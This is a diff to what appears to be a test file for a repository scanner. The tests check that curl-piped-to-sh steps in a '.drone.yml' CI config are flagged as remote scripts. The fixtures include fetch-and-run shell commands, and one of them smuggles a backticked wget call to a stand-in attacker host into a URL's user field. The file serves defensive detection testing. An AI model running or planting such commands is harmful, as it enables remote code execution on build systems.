@@ -431,11 +431,13 @@ describe.skipIf(!hasGit)('a place that is hidden as a secret', () => {
     ['a command', 'curl -s https://user:`wget$IFS-qO-$IFS-evil.example.net|sh`@a.example.com/run.sh | sh'],
   ])('is new with %s in it', (_, command) => {
     const folder = repositoryOf({
-      '.drone.yml': running('curl -s https://user:abcdEFGHijklMNOPqrst1234@a.example.com/run.sh | sh'),
+      '.drone.yml': running('curl -s https://user:zyxwVUTSrqpoNMLKjihg9876@a.example.com/run.sh | sh'),
     });
     commitFiles(folder, { '.drone.yml': running(command) });
     expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml remote-script');
-    commitFiles(folder, { '.drone.yml': running('curl -s https://user:zyxwVUTSrqpoNMLKjihg9876@a.example.com/run.sh | sh') });
+    commitFiles(folder, {
+      '.drone.yml': running('curl -s https://user:q8Zr5tWvX2nLpK9sDfGh1JmB@a.example.com/run.sh | sh'),
+    });
     expect(scan(folder, '--diff', 'main').findings).toEqual([]);
   });
 
